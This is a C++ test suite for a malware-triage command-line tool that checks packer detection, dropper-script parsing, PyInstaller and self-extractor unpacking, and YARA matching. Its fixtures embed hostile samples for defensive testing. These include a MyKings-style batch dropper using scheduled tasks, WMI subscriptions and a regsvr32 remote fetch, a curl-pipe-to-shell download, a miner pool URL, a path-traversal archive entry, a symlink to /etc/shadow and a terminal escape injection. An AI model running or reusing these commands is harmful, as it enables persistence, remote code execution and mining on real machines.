#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <map>
#include <set>
#include <sstream>

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "casedb/case_db.h"
#include "support/archive_writer.h"
#include "support/pe_writer.h"
#include "support/pyinstaller_writer.h"
#include "support/test_support.h"

namespace msw {
namespace {

test::RunResult ms(std::vector<std::string> args) {
  args.insert(args.begin(), MSW_BINARY);
  return test::run(args);
}

TEST(Cli, HelpListsEveryCommand) {
  auto r = ms({"--help"});
  EXPECT_EQ(r.exit_code, 0);
  for (auto cmd : {"triage", "scan", "evtx", "sample", "pcap", "intel", "report", "respond", "baseline"})
    EXPECT_NE(r.out.find(std::string("  ") + cmd), std::string::npos) << cmd;
  EXPECT_EQ(ms({}).exit_code, 2);  // no command is a usage error
  EXPECT_EQ(ms({"--version"}).exit_code, 0);
}

TEST(Cli, EveryCommandHasHelp) {
  for (auto cmd : {"triage", "scan", "evtx", "sample", "pcap", "intel", "report", "respond", "baseline"}) {
    auto r = ms({cmd, "--help"});
    EXPECT_EQ(r.exit_code, 0) << cmd;
    EXPECT_NE(r.out.find(std::string("Usage: minesweep ") + cmd), std::string::npos) << cmd;
    EXPECT_NE(r.out.find("--case"), std::string::npos) << cmd;
    // Every option's name stands apart from its help text, however long the name.
    std::istringstream lines(r.out);
    for (std::string line; std::getline(lines, line);) {
      if (!line.starts_with("  --")) continue;
      auto name_end = line.find(' ', 2);
      if (line.compare(name_end, 6, " VALUE") == 0) name_end += 6;
      EXPECT_EQ(line.compare(name_end, 2, "  "), 0) << cmd << ": " << line;
    }
  }
}

// `sample`: a packed PE is named with its evidence and exits 1; a plain one exits 0; a hash the intel store knows is
// reported with its family.
TEST(Cli, SampleNamesPackersAndKnownHashes) {
  test::TempDir dir;
  test::PeSpec upx;
  upx.sections = {{"UPX0", "", 0xE0000080, 0x10000},
                  {"UPX1", std::string("3.96\0UPX!", 9) + std::string(512, 'u'), 0xE0000040, 0}};
  upx.entry_section = 1;
  upx.imports = {{"KERNEL32.dll", {"LoadLibraryA", "GetProcAddress"}}};
  test::write_file(dir / "packed.exe", test::write_pe(upx));
  auto r = ms({"sample", (dir / "packed.exe").string()});
  EXPECT_EQ(r.exit_code, 1) << r.err;
  EXPECT_NE(r.out.find("Tool:        UPX 3.96 (packer): sections UPX0, UPX1"), std::string::npos) << r.out;
  const auto packed_json = ms({"sample", "--json", (dir / "packed.exe").string()});
  ASSERT_FALSE(packed_json.out.empty()) << packed_json.err;
  auto j = nlohmann::json::parse(packed_json.out);
  EXPECT_EQ(j["format"], "pe");
  EXPECT_EQ(j["pe"]["tools"][0]["name"], "UPX 3.96");
  EXPECT_EQ(j["pe"]["imports"][0]["functions"][1], "GetProcAddress");
  EXPECT_EQ(j["pe"]["entry_section"], "UPX1");

  // The strings' indicators: a pool URL in a section, a UTF-16 URL in the overlay.
  test::PeSpec miner;
  miner.sections = {{".rdata",
                     std::string(16, '\0') + "-o stratum+tcp://pool.minexmr.com:4444 -k" + std::string(16, '\0'),
                     0x40000040, 0}};
  miner.overlay = std::string("h\0t\0t\0p\0:\0/\0/\0001\0009\0008\0.\0005\0001\0.\0001\0000\0000\0.\0007\0/\0x\0", 42);
  test::write_file(dir / "miner.exe", test::write_pe(miner));
  auto mr = ms({"sample", "--json", (dir / "miner.exe").string()});
  EXPECT_EQ(mr.exit_code, 1) << mr.out << mr.err;  // a pool is reason enough to look closer
  std::set<std::string> iocs;
  const auto mj = nlohmann::json::parse(mr.out);
  for (const auto& i : mj["iocs"]) iocs.insert(i["kind"].get<std::string>() + " " + i["value"].get<std::string>());
  EXPECT_TRUE(iocs.count("pool_url stratum+tcp://pool.minexmr.com:4444")) << mr.out;
  EXPECT_TRUE(iocs.count("domain pool.minexmr.com"));
  EXPECT_TRUE(iocs.count("url http://198.51.100.7/x")) << mr.out;

  test::write_file(dir / "plain.exe", test::write_pe({}));
  auto plain = ms({"sample", (dir / "plain.exe").string()});
  EXPECT_EQ(plain.exit_code, 0) << plain.out << plain.err;
  const std::string sha256 =
      nlohmann::json::parse(ms({"sample", "--json", (dir / "plain.exe").string()}).out)["sha256"];
  const std::string store = (dir / "intel.sqlite").string();
  test::write_file(dir / "feed/hashes.csv", "indicator,type,family\n" + sha256 + ",sha256,mykings\n");
  const auto imported = ms({"intel", "import", "--intel", store, (dir / "feed").string()});
  ASSERT_EQ(imported.exit_code, 0) << imported.out << imported.err;
  auto known = ms({"sample", "--intel", store, (dir / "plain.exe").string()});
  EXPECT_EQ(known.exit_code, 1) << known.out << known.err;
  EXPECT_NE(known.out.find("Known:       sha256 of mykings"), std::string::npos) << known.out;

  EXPECT_EQ(ms({"sample"}).exit_code, 2);
  EXPECT_NE(ms({"sample", (dir / "missing.exe").string()}).exit_code, 0);
}

// `sample` on a MyKings-style dropper: the commands as records and the family from the knowledge base.
TEST(Cli, SampleReadsADropperScriptAndNamesItsFamily) {
  test::TempDir dir;
  test::write_file(
      dir / "c3.bat",
      "@echo off\r\nset a=xxschtasksxx\r\nset t=%a:~2,8%\r\n"
      "%t% /create /tn \"Mysa\" /tr \"cmd /c echo open ftp.ftp1202.site>s&ftp -s:s\" /ru system /sc onstart /F\r\n"
      "wmic /namespace:\\\\root\\subscription PATH __EventFilter CREATE Name=\"fuckyoumm3\", "
      "EventNameSpace=\"root\\cimv2\"\r\n"
      "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\" /v start /d \"regsvr32 /u /s "
      "/i:hxxp://js.mykings[.]top:280/v.sct scrobj.dll\" /f\r\n");
  auto r = ms({"sample", "--json", (dir / "c3.bat").string()});
  EXPECT_EQ(r.exit_code, 1) << r.err;
  const auto j = nlohmann::json::parse(r.out);
  const auto& s = j["script"];
  EXPECT_EQ(s["language"], "batch");
  EXPECT_EQ(s["layers"][0]["name"], "batch variables");
  std::set<std::string> commands;
  for (const auto& c : s["commands"])
    commands.insert(c["kind"].get<std::string>() + " " + c["attack"].get<std::string>());
  for (auto want :
       {"scheduled_task T1053.005", "wmi_subscription T1546.003", "registry_run T1547.001", "download T1218.010"})
    EXPECT_TRUE(commands.count(want)) << want;
  EXPECT_GE(s["families"]["mykings"].get<int>(), 3);
}

// A dropper that only fetches from an address the knowledge base lists for Kinsing is evidence for it, not an
// attribution: droppers and their servers are shared and re-used, so the file names no family (its score is kept).
TEST(Cli, SampleNamesNoFamilyOnASharedDropperAlone) {
  test::TempDir dir;
  test::write_file(dir / "d.sh", "#!/bin/sh\ncurl -fsSL http://195.3.146.118/d.sh | sh\n");
  auto r = ms({"sample", "--json", (dir / "d.sh").string()});
  const auto j = nlohmann::json::parse(r.out);
  EXPECT_EQ(j["families"].value("kinsing_h2miner", 0), 6) << j["families"].dump();  // its URL and address, once each
  EXPECT_FALSE(j.contains("family")) << j["family"].dump();
}

// `sample --extract` on a PyInstaller bundle: the entry script and the PYZ modules as .pyc files whose header is the
// one Python 3.8 expects, the bundle's strings searched too, and nothing overwritten.
TEST(Cli, SampleUnpacksPyInstallerWithRepairedHeaders) {
  test::TempDir dir;
  const std::string magic38("\x55\x0d\x0d\x0a", 4);
  const std::string pyz = test::write_pyz(
      magic38, {{"eternalblue", "\xe3 smb ms17-010 http://198.51.100.7/eb", false}, {"keyed", "\xe3 secret", true}});
  test::PeSpec spec;
  spec.overlay = test::write_carchive({{"csrs", 's', "\xe3 entry point", true}, {"PYZ-00.pyz", 'z', pyz, false}}, 38,
                                      "python38.dll");
  test::write_file(dir / "csrs.exe", test::write_pe(spec));
  const auto out = dir / "unpacked";
  auto r = ms({"sample", (dir / "csrs.exe").string(), "--extract", out.string()});
  ASSERT_TRUE(r.exit_code == 0 || r.exit_code == 1) << r.err;
  EXPECT_NE(
      r.out.find("PyInstaller: Python 3.8 (python38.dll), 4 members: 1 entry scripts, 2 PYZ modules, 1 encrypted"),
      std::string::npos)
      << r.out;
  EXPECT_NE(r.out.find("Entry point: csrs"), std::string::npos);
  EXPECT_NE(r.out.find("url http://198.51.100.7/eb"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("in eternalblue"), std::string::npos);
  const std::string entry = test::read_file(out / "csrs.pyc");
  EXPECT_EQ(entry, magic38 + std::string(12, '\0') + "\xe3 entry point");
  EXPECT_EQ(test::read_file(out / "PYZ/eternalblue.pyc").substr(0, 16), magic38 + std::string(12, '\0'));
  EXPECT_FALSE(std::filesystem::exists(out / "PYZ/keyed.pyc"));  // encrypted: nothing to write
  EXPECT_EQ(std::filesystem::status(out / "csrs.pyc").permissions() & std::filesystem::perms::owner_exec,
            std::filesystem::perms::none);
  // A second run never overwrites what the first wrote.
  auto again = ms({"sample", (dir / "csrs.exe").string(), "--extract", out.string()});
  EXPECT_NE(again.exit_code, 0);
  EXPECT_NE(again.err.find("cannot create"), std::string::npos) << again.err;
}

// A MyKings-style nested sample: a zip self-extractor whose WinRAR script silently runs a PyInstaller-packed
// csrs.exe, next to a c3.bat dropper and hostile members. The tree names each layer; --extract writes the members
// (never a traversing name, never a link) and the bundle's code as .pyc with the header Python 3.8 expects.
TEST(Cli, SampleUnpacksANestedSfxToPycFiles) {
  test::TempDir dir;
  const std::string magic38("\x55\x0d\x0d\x0a", 4);
  const std::string pyz = test::write_pyz(
      magic38, {{"eternalblue", "\xe3 MS17-010 mysmb send_trans2_second http://198.51.100.7/eb", false}});
  test::PeSpec bundle;
  bundle.overlay = test::write_carchive({{"csrs", 's', "\xe3 entry point", true}, {"PYZ-00.pyz", 'z', pyz, false}}, 38,
                                        "python38.dll");
  const std::string dropper =
      "@echo off\r\nschtasks /create /tn \"Mysa\" /tr \"cmd /c echo open ftp.ftp1202.site>s&ftp -s:s\" /sc onstart "
      "/F\r\n";
  const std::string script =
      ";The comment below contains SFX script commands\r\nPath=C:\\Windows\\debug\r\n"
      "Setup=csrs.exe\r\nSilent=1\r\nOverwrite=1\r\n";
  for (const std::string format : {"zip", "7z"}) {
    SCOPED_TRACE(format);
    std::string archive = test::write_archive(format, {{"csrs.exe", test::write_pe(bundle), ""},
                                                       {"c3.bat", dropper, ""},
                                                       {"../evil.bat", "echo escaped", ""},
                                                       {"link", "", "/etc/shadow"}});
    if (format == "zip") archive = test::with_zip_comment(archive, script);
    test::PeSpec sfx;
    sfx.sections = {{".text", std::string(512, '\x90'), 0x60000020, 0}};
    sfx.overlay = archive;
    const auto sample = dir / (format + "-sfx.exe");
    test::write_file(sample, test::write_pe(sfx));
    const auto out = dir / (format + "-out");
    auto r = ms({"sample", "--json", sample.string(), "--extract", out.string()});
    ASSERT_EQ(r.exit_code, 1) << r.err;
    const auto j = nlohmann::json::parse(r.out);
    EXPECT_EQ(j["sfx"]["kind"], format);
    ASSERT_TRUE(j.contains("archive")) << r.out.substr(0, 2000);
    if (format == "zip") {
      EXPECT_EQ(j["archive"]["sfx_script"]["runs"][0], "csrs.exe");
      EXPECT_EQ(j["archive"]["sfx_script"]["silent"], true);
      EXPECT_EQ(j["archive"]["sfx_script"]["path"], "C:\\Windows\\debug");
    }
    std::map<std::string, nlohmann::json> children;
    for (const auto& c : j["children"]) children[c["name"]] = c;
    ASSERT_TRUE(children.count("csrs.exe"));
    const auto& csrs = children["csrs.exe"];
    EXPECT_EQ(csrs["pyinstaller"]["python"], "3.8");
    std::set<std::string> rules;
    for (const auto& m : csrs["yara"]) rules.insert(m["rule"]);
    EXPECT_TRUE(rules.count("MSW_EternalBlue_Python_Exploit")) << csrs["yara"].dump();
    ASSERT_TRUE(children.count("c3.bat"));
    EXPECT_EQ(children["c3.bat"]["family"], "mykings");
    EXPECT_EQ(children["c3.bat"]["script"]["commands"][0]["kind"], "scheduled_task");
    ASSERT_TRUE(children.count("../evil.bat"));
    EXPECT_NE(children["../evil.bat"]["note"].get<std::string>().find("not extracted"), std::string::npos);
    ASSERT_EQ(j["skipped"].size(), 1u);
    EXPECT_EQ(j["skipped"][0]["link_target"], "/etc/shadow");
    EXPECT_EQ(j["family"], "mykings");

    // On disk: the members, the bundle's code with the 3.8 header, nothing outside, nothing executable.
    EXPECT_EQ(test::read_file(out / "c3.bat"), dropper);
    EXPECT_EQ(test::read_file(out / "csrs.exe.d/csrs.pyc"), magic38 + std::string(12, '\0') + "\xe3 entry point");
    EXPECT_EQ(test::read_file(out / "csrs.exe.d/PYZ/eternalblue.pyc").substr(0, 16), magic38 + std::string(12, '\0'));
    EXPECT_FALSE(std::filesystem::exists(dir / "evil.bat"));
    EXPECT_FALSE(std::filesystem::exists(out / "link"));
    for (const auto& e : std::filesystem::recursive_directory_iterator(out)) {
      if (e.is_regular_file()) {
        EXPECT_EQ(e.status().permissions() & std::filesystem::perms::owner_exec, std::filesystem::perms::none)
            << e.path();
      }
    }

    // The terminal shows the tree.
    auto text = ms({"sample", sample.string()});
    EXPECT_NE(text.out.find("└─ csrs.exe"), std::string::npos) << text.out;
    EXPECT_NE(text.out.find("PyInstaller (Python 3.8)"), std::string::npos);
    if (format == "zip") {
      EXPECT_NE(text.out.find("SFX runs:    csrs.exe (silently"), std::string::npos) << text.out;
    }
  }
}

// `--yara` adds the user's rules to the built-in ones; files that do not compile are named; a folder is analysed
// file by file with --recursive.
TEST(Cli, SampleRunsUserYaraRulesAndFolders) {
  test::TempDir dir;
  test::write_file(dir / "rules/mine.yar", "rule Custom_Marker { strings: $a = \"CUSTOM-MARKER-42\" condition: $a }\n");
  test::write_file(dir / "rules/broken.yar", "rule { nope\n");
  test::write_file(dir / "files/a.txt", "hello CUSTOM-MARKER-42 world\n");
  test::write_file(dir / "files/sub/b.txt", "nothing to see\n");
  auto r = ms({"sample", "--yara", (dir / "rules").string(), (dir / "files/a.txt").string()});
  EXPECT_EQ(r.exit_code, 1) << r.err;
  EXPECT_NE(r.out.find("YARA:        Custom_Marker (mine.yar) [$a@0x6]"), std::string::npos) << r.out;
  EXPECT_NE(r.err.find("skipped " + (dir / "rules/broken.yar").string()), std::string::npos)
      << r.err << " / " << (dir / "rules/broken.yar").string();
  auto folder = ms({"sample", "--recursive", "--json", "--yara", (dir / "rules").string(), (dir / "files").string()});
  EXPECT_EQ(folder.exit_code, 1);
  std::map<std::string, size_t> yara_hits;
  std::istringstream lines(folder.out);
  for (std::string line; std::getline(lines, line);) {
    const auto j = nlohmann::json::parse(line);
    yara_hits[std::filesystem::path(j["name"].get<std::string>()).filename()] = j["yara"].size();
  }
  EXPECT_EQ(yara_hits.size(), 2u);
  EXPECT_EQ(yara_hits["a.txt"], 1u);
  EXPECT_EQ(yara_hits["b.txt"], 0u);
  EXPECT_EQ(ms({"sample", (dir / "files").string()}).exit_code, 2);  // a folder needs --recursive
}

// Real public evidence (hives, task files, WMI repositories, event logs, captures): `sample --recursive` analyses
// every file, one JSON line each, and never crashes.
TEST(Cli, SampleOverTheCorpusNeverCrashes) {
  const std::filesystem::path root = std::filesystem::path(MSW_CORPUS_DIR);
  if (!std::filesystem::exists(root / "windows")) GTEST_SKIP() << "corpus not present";
  for (const char* folder : {"windows", "pcap"}) {
    size_t files = 0;
    for (const auto& e : std::filesystem::recursive_directory_iterator(root / folder))
      files += e.is_regular_file() && !e.is_symlink();
    auto r = ms({"sample", "--recursive", "--json", "--yara-cache", "none", (root / folder).string()});
    ASSERT_TRUE(r.exit_code == 0 || r.exit_code == 1) << folder << ": " << r.err.substr(0, 2000);
    size_t lines = 0;
    std::istringstream in(r.out);
    for (std::string line; std::getline(in, line); ++lines) {
      const bool valid = nlohmann::json::accept(line);
      EXPECT_TRUE(valid) << line.substr(0, 200);
    }
    EXPECT_EQ(lines, files) << folder;
  }
}

// `scan` of a folder of loose files gives them the sample analysis: a packed executable, a MyKings dropper script,
// a self-extractor that silently runs its payload and a user YARA rule each become a finding with the file as
// evidence; an ordinary text file gives none.
TEST(Cli, ScanAnalysesLooseFilesLikeSample) {
  test::TempDir dir;
  test::PeSpec upx;
  upx.sections = {{"UPX0", "", 0xE0000080, 0x10000},
                  {"UPX1", std::string("3.96\0UPX!", 9) + std::string(512, 'u'), 0xE0000040, 0}};
  upx.entry_section = 1;
  test::write_file(dir / "ev/Windows/debug/lsmose.exe", test::write_pe(upx));
  test::write_file(dir / "ev/c3.bat",
                   "@echo off\r\nschtasks /create /tn \"Mysa\" /tr \"cmd /c echo open ftp.ftp1202.site>s&ftp -s:s\" "
                   "/ru system /sc onstart /F\r\nwmic /namespace:\\\\root\\subscription PATH __EventFilter CREATE "
                   "Name=\"fuckyoumm3\", EventNameSpace=\"root\\cimv2\"\r\n");
  test::PeSpec sfx;
  sfx.overlay = test::with_zip_comment(test::write_archive("zip", {{"ups.exe", "MZ payload", ""}}),
                                       "Setup=ups.exe\r\nSilent=1\r\n");
  test::write_file(dir / "ev/ups.dat", test::write_pe(sfx));
  test::write_file(dir / "ev/notes.txt", "meeting notes: patch the servers on Friday\n");
  test::write_file(dir / "ev/custom.bin", "header CUSTOM-MARKER-42 trailer");
  test::write_file(
      dir / "rules/mine.yar",
      "rule Custom_Marker { meta: severity = \"high\" strings: $a = \"CUSTOM-MARKER-42\" condition: $a }\n");
  const auto case_path = dir / "case.sqlite";
  auto r =
      ms({"scan", "--quiet", "--yara", (dir / "rules").string(), "--case", case_path.string(), (dir / "ev").string()});
  ASSERT_EQ(r.exit_code, 1) << r.err;
  auto db = casedb::CaseDb::open(case_path.string(), true);
  ASSERT_TRUE(db);
  std::map<std::string, std::vector<model::Finding>> by_rule;
  auto stored = db->findings();
  ASSERT_TRUE(stored);
  for (auto& f : *stored) by_rule[f.finding.rule_id].push_back(f.finding);
  auto path_of = [&](const std::string& rule) {
    return by_rule.count(rule) ? by_rule[rule][0].evidence.at(0).path : std::string("(none)");
  };
  EXPECT_NE(path_of("sample.packed_executable").find("lsmose.exe"), std::string::npos);
  EXPECT_NE(path_of("sample.script_changes_host").find("c3.bat"), std::string::npos);
  ASSERT_TRUE(by_rule.count("sample.script_changes_host"));
  EXPECT_EQ(by_rule["sample.script_changes_host"][0].family, "mykings");
  EXPECT_GE(by_rule["sample.script_changes_host"][0].severity, model::Severity::High);
  EXPECT_NE(path_of("yara.MSW_MyKings_Artefacts").find("c3.bat"), std::string::npos);
  EXPECT_NE(path_of("yara.MSW_WMI_Event_Subscription_Script").find("c3.bat"), std::string::npos);
  EXPECT_NE(path_of("sample.sfx_runs_program").find("ups.dat"), std::string::npos);
  EXPECT_NE(path_of("yara.Custom_Marker").find("custom.bin"), std::string::npos);
  for (const auto& [rule, fs] : by_rule)
    for (const auto& f : fs)
      for (const auto& e : f.evidence) EXPECT_EQ(e.path.find("notes.txt"), std::string::npos) << rule;
}

// Identification from bytes: a pyc's Python from its magic, a text file's encoding (GBK droppers, UTF-16 scripts).
TEST(Cli, SampleNamesPycVersionsAndTextEncodings) {
  test::TempDir dir;
  test::write_file(dir / "m.pyc", std::string("\x55\x0d\x0d\x0a", 4) + std::string(12, '\0') + "\xe3 code");
  test::write_file(dir / "gbk.bat", "@echo off\r\necho \xc4\xe3\xba\xc3\xca\xc0\xbd\xe7\r\n");  // 你好世界
  test::write_file(dir / "utf16.ps1", std::string("W\0r\0i\0t\0e\0-\0H\0o\0s\0t\0 \0x\0", 24));
  test::write_file(dir / "utf8.sh", "echo \xe4\xbd\xa0\xe5\xa5\xbd\n");
  auto enc = [&](const char* name) {
    const auto r = ms({"sample", "--json", (dir / name).string()});
    const auto j = nlohmann::json::parse(r.out);
    return j.contains("pyc") ? "python " + j["pyc"]["python"].get<std::string>() : j.value("encoding", std::string());
  };
  EXPECT_EQ(enc("m.pyc"), "python 3.8");
  EXPECT_EQ(enc("gbk.bat"), "gb18030");
  EXPECT_EQ(enc("utf16.ps1"), "utf-16le");
  EXPECT_EQ(enc("utf8.sh"), "utf-8");
}

// A real compiler's output, built at test time with Debian's MinGW-w64 (scripts/setup.sh --dev installs it): a
// 64-bit program with a copied Microsoft version resource, an export, imports and a UTF-16 pool URL; then the same
// program as the stub of a 7-Zip self-extractor carrying a dropper script.
TEST(Cli, SampleReadsMinGWBuiltPrograms) {
  if (std::system("command -v x86_64-w64-mingw32-gcc >/dev/null 2>&1 && command -v x86_64-w64-mingw32-windres "
                  ">/dev/null 2>&1") != 0)
    GTEST_SKIP() << "MinGW-w64 not installed (scripts/setup.sh --dev installs it)";
  test::TempDir dir;
  test::write_file(dir / "svc.c",
                   "#include <windows.h>\n#include <stdio.h>\n"
                   "static const wchar_t pool[] = L\"stratum+tcp://pool.minexmr.com:4444\";\n"
                   "__declspec(dllexport) int ServiceMain(void) { return 7; }\n"
                   "int main(int argc, char** argv) {\n"
                   "  if (argc > 3) MessageBoxW(0, pool, L\"x\", 0);\n"
                   "  printf(\"%s\\n\", argc > 5 ? argv[1] : \"ok\");\n  return ServiceMain();\n}\n");
  test::write_file(dir / "svc.rc",
                   "1 VERSIONINFO\nFILEVERSION 10,0,19041,1\nPRODUCTVERSION 10,0,19041,1\nBEGIN\n"
                   " BLOCK \"StringFileInfo\"\n BEGIN\n  BLOCK \"040904B0\"\n  BEGIN\n"
                   "   VALUE \"CompanyName\", \"Microsoft Corporation\"\n"
                   "   VALUE \"OriginalFilename\", \"svchost.exe\"\n  END\n END\n"
                   " BLOCK \"VarFileInfo\"\n BEGIN\n  VALUE \"Translation\", 0x409, 1200\n END\nEND\n");
  const std::string d = dir.path().string();
  ASSERT_EQ(std::system(("cd '" + d + "' && x86_64-w64-mingw32-windres svc.rc -O coff -o svc.res && " +
                         "x86_64-w64-mingw32-gcc -O2 -o svc.exe svc.c svc.res -luser32")
                            .c_str()),
            0);
  auto r = ms({"sample", "--json", (dir / "svc.exe").string()});
  EXPECT_EQ(r.exit_code, 1) << r.err;  // the pool is in the knowledge base
  const auto j = nlohmann::json::parse(r.out);
  EXPECT_EQ(j["format"], "pe");
  EXPECT_EQ(j["pe"]["machine"], "x64");
  EXPECT_EQ(j["pe"]["bits"], 64);
  EXPECT_EQ(j["pe"]["version_info"]["CompanyName"], "Microsoft Corporation");
  EXPECT_EQ(j["pe"]["version_info"]["OriginalFilename"], "svchost.exe");
  EXPECT_EQ(j["pe"]["file_version"], "10.0.19041.1");
  EXPECT_NE(std::find(j["pe"]["exports"].begin(), j["pe"]["exports"].end(), "ServiceMain"), j["pe"]["exports"].end());
  std::set<std::string> imports;
  for (const auto& i : j["pe"]["imports"])
    for (const auto& f : i["functions"]) imports.insert(i["dll"].get<std::string>() + "!" + f.get<std::string>());
  EXPECT_TRUE(imports.count("USER32.dll!MessageBoxW")) << j["pe"]["imports"].dump();
  std::set<std::string> iocs;
  for (const auto& i : j["iocs"]) iocs.insert(i["kind"].get<std::string>() + " " + i["value"].get<std::string>());
  EXPECT_TRUE(iocs.count("pool_url stratum+tcp://pool.minexmr.com:4444"));
  EXPECT_EQ(j["pe"]["signature"]["present"], false);

  // The same program as a self-extractor's stub: the 7z overlay is named with its offset and its member analysed.
  const std::string stub = test::read_file(dir / "svc.exe");
  const std::string archive = test::write_archive(
      "7z",
      {{"run.bat", "schtasks /create /tn \"Mysa\" /tr \"cmd /c echo open ftp.ftp1202.site>s\" /sc onstart\r\n", ""}});
  test::write_file(dir / "sfx.exe", stub + archive);
  auto sfx = ms({"sample", "--json", (dir / "sfx.exe").string()});
  const auto js = nlohmann::json::parse(sfx.out);
  bool named = false;
  for (const auto& t : js["pe"]["tools"])
    named = named || (t["name"] == "7-Zip SFX" && t["payload_offset"] == stub.size());
  EXPECT_TRUE(named) << js["pe"]["tools"].dump();
  ASSERT_EQ(js["children"].size(), 1u);
  EXPECT_EQ(js["children"][0]["name"], "run.bat");
  EXPECT_EQ(js["children"][0]["family"], "mykings");

  // --case keeps the findings in a case that `report` renders.
  const auto case_path = dir / "sfx.sqlite";
  ASSERT_EQ(ms({"sample", "--quiet", "--case", case_path.string(), (dir / "sfx.exe").string()}).exit_code, 1);
  auto db = casedb::CaseDb::open(case_path.string(), true);
  ASSERT_TRUE(db);
  auto stored = db->findings();
  ASSERT_TRUE(stored);
  std::set<std::string> rules;
  for (const auto& f : *stored) rules.insert(f.finding.rule_id);
  EXPECT_TRUE(rules.count("sample.script_changes_host")) << rules.size();
  EXPECT_TRUE(rules.count("yara.MSW_MyKings_Artefacts"));
  EXPECT_EQ(ms({"report", "--format", "md", "--out", (dir / "r.md").string(), case_path.string()}).exit_code, 0);
}

TEST(Cli, RespondUsageErrorsExitTwo) {
  EXPECT_EQ(ms({"respond", "no-such-case.sqlite", "--apply", "--yes"}).exit_code, 2);
  EXPECT_EQ(ms({"respond", "case.sqlite", "--script", "cmd"}).exit_code, 2);
  EXPECT_EQ(ms({"respond", "--undo", "no-such-journal.jsonl"}).exit_code, 2);
}

TEST(Cli, UsageErrorsExitTwo) {
  EXPECT_EQ(ms({"frobnicate"}).exit_code, 2);
  auto bad_flag = ms({"scan", "--no-such-flag", "x"});
  EXPECT_EQ(bad_flag.exit_code, 2);
  EXPECT_NE(bad_flag.err.find("unknown option --no-such-flag"), std::string::npos);
  EXPECT_EQ(ms({"scan"}).exit_code, 2);
  EXPECT_EQ(ms({"scan", "--threads", "0", "x"}).exit_code, 2);
  EXPECT_EQ(ms({"scan", "--lang", "fr", "x"}).exit_code, 2);
  EXPECT_EQ(ms({"scan", "--case"}).exit_code, 2);
  EXPECT_EQ(ms({"report", "--format", "pdf", "x"}).exit_code, 2);
  auto missing = ms({"scan", "--quiet", "/no/such/evidence"});
  EXPECT_EQ(missing.exit_code, 2);
  EXPECT_NE(missing.err.find("does not exist"), std::string::npos);
  auto no_case = ms({"report", "/no/such/case.sqlite"});
  EXPECT_EQ(no_case.exit_code, 2);
}

TEST(Cli, TerminalOutputEscapesEvidence) {
  test::TempDir dir;
  // A forged bundle whose host name carries an escape sequence that would clear the analyst's terminal.
  test::write_file(dir / "ev/manifest.json",
                   "{\"format\":\"minesweep-bundle\",\"version\":1,\"host\":{\"hostname\":\"evil\\u001b[2J\"}}");
  test::write_file(dir / "ev/etc/hosts", "1.2.3.4 www.example.com\n");
  auto r = ms({"scan", "--quiet", "--case", (dir / "c.sqlite").string(), (dir / "ev").string()});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_NE(r.out.find("evil\\x1b[2J"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find('\x1b'), std::string::npos);
  EXPECT_EQ(r.err.find('\x1b'), std::string::npos);
}

}  // namespace
}  // namespace msw
